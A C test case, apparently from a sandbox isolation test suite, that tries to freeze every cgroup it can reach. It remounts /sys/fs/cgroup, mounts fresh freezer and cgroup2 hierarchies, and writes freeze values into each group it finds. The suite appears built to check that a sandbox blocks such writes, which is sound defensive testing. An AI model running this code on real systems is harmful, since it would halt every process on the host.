// Tries: to freeze each cgroup that it can find, and whatever is in it.
// With: check, check 08, program 08
// Silent
#include "groups.h"

static int freeze(const char *path, const struct stat *found, int kind, struct FTW *where) {
  (void)found, (void)where;
  const char *name = strrchr(path, '/') + 1;
  if (kind != FTW_F || !may_hit(path)) return 0;
  if (!strcmp(name, "cgroup.freeze")) write_to(path, "1");
  if (!strcmp(name, "freezer.state")) write_to(path, "FROZEN");
  return 0;
}

ATTACK(freezes_every_group) {
  mount("none", "/sys/fs/cgroup", 0, MS_REMOUNT | MS_BIND, 0);
  nftw("/sys/fs/cgroup", freeze, 16, FTW_PHYS);
  mkdir("/tmp/groups", 0755);
  if (mount("cgroup", "/tmp/groups", "cgroup", 0, "freezer") == 0) nftw("/tmp/groups", freeze, 16, FTW_PHYS);
  if (mount("cgroup2", "/tmp/groups", "cgroup2", 0, 0) == 0) nftw("/tmp/groups", freeze, 16, FTW_PHYS);
}
